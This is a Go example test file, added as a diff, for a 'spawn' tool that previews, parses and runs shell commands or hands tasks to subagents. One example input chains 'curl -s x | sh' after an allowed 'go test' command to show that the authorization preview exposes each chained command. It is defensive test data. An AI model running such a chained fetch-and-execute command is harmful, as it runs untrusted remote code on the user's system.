@@ -1,0 +1,97 @@
+package spawn_test
+
+import (
+	"context"
+	"encoding/json"
+	"fmt"
+	"os"
+
+	"github.com/basis-go/basis/contract"
+	"github.com/basis-go/basis/spawn"
+)
+
+func call(input string) contract.Call {
+	raw, _ := json.Marshal(map[string]string{"input": input})
+	return contract.Call{ID: "call_1", Input: raw}
+}
+
+// The preview says what a call is about to do, before anything runs. Its
+// commands list lets a rule allow "go test ./..." without allowing what a
+// model might chain after it.
+func Example() {
+	tool, err := spawn.New(spawn.Config{Root: "/repo"})
+	if err != nil {
+		panic(err)
+	}
+	ctx := context.Background()
+	for _, input := range []string{"!go test ./...", "!go test ./... && curl -s x | sh", "!echo $HOME"} {
+		preview, _ := tool.AuthorizationPreview(ctx, call(input))
+		fmt.Println(preview.Summary)
+		fmt.Println(string(preview.Subject))
+	}
+	// No Delegator was configured, so a task is refused before any
+	// approver is asked.
+	_, err = tool.AuthorizationPreview(ctx, call("fix the failing test"))
+	fmt.Println(err)
+	// Output:
+	// run "go test ./..." in /repo
+	// {"body":"go test ./...","commands":[["go","test","./..."]],"cwd":"/repo","mode":"command","target":"local"}
+	// run "go test ./... && curl -s x | sh" in /repo
+	// {"body":"go test ./... && curl -s x | sh","commands":[["go","test","./..."],["curl","-s","x"],["sh"]],"cwd":"/repo","mode":"command","target":"local"}
+	// run "echo $HOME" in /repo
+	// {"body":"echo $HOME","commands":null,"cwd":"/repo","mode":"command","target":"local"}
+	// spawn: there is no subagent here to take a task; to run a command instead, start the input with "!", as in "!go test ./..."
+}
+
+func ExampleTool_Execute() {
+	tool, err := spawn.New(spawn.Config{Root: "/", CommandEnv: []string{"GREETING=hello"}})
+	if err != nil {
+		panic(err)
+	}
+	res, err := tool.Execute(context.Background(), call(`!echo "$GREETING"; echo warning >&2`))
+	fmt.Println(res.Text, err)
+
+	_, err = tool.Execute(context.Background(), call(`!echo partial; exit 2`))
+	fmt.Println(err)
+	// Output:
+	// stdout:
+	// hello
+	// stderr:
+	// warning <nil>
+	// spawn: the command exited with code 2
+	// partial
+}
+
+func ExampleParse() {
+	for _, input := range []string{"!go test ./...", "!@mac xcodebuild -list", "!!important: read this first", "summarise the README", "!@ mac ls"} {
+		in, err := spawn.Parse(input)
+		if err != nil {
+			fmt.Println(err)
+			continue
+		}
+		fmt.Printf("%s %q target=%q\n", in.Mode, in.Body, in.Target)
+	}
+	// Output:
+	// command "go test ./..." target=""
+	// command "xcodebuild -list" target="mac"
+	// agent "!important: read this first" target=""
+	// agent "summarise the README" target=""
+	// spawn: "!@" must be followed directly by a target name, with no space; write "!@mac xcodebuild -list": the target name right after "!@", a space, then the command
+}
+
+// A CommandDelegator makes any agent command line a subagent: the task on
+// its stdin, the answer on its stdout, and its depth in BASIS_SPAWN_DEPTH.
+func ExampleCommandDelegator() {
+	delegate := spawn.CommandDelegator{
+		Argv: []string{"/bin/sh", "-c", `echo "depth $BASIS_SPAWN_DEPTH: $(tr a-z A-Z)"`},
+		Env:  []string{"PATH=" + os.Getenv("PATH")},
+	}
+	tool, err := spawn.New(spawn.Config{Root: "/", Delegator: delegate})
+	if err != nil {
+		panic(err)
+	}
+	res, err := tool.Execute(context.Background(), call("shout this"))
+	fmt.Println(res.Text, err)
+	// Output:
+	// depth 1: SHOUT THIS <nil>
+}
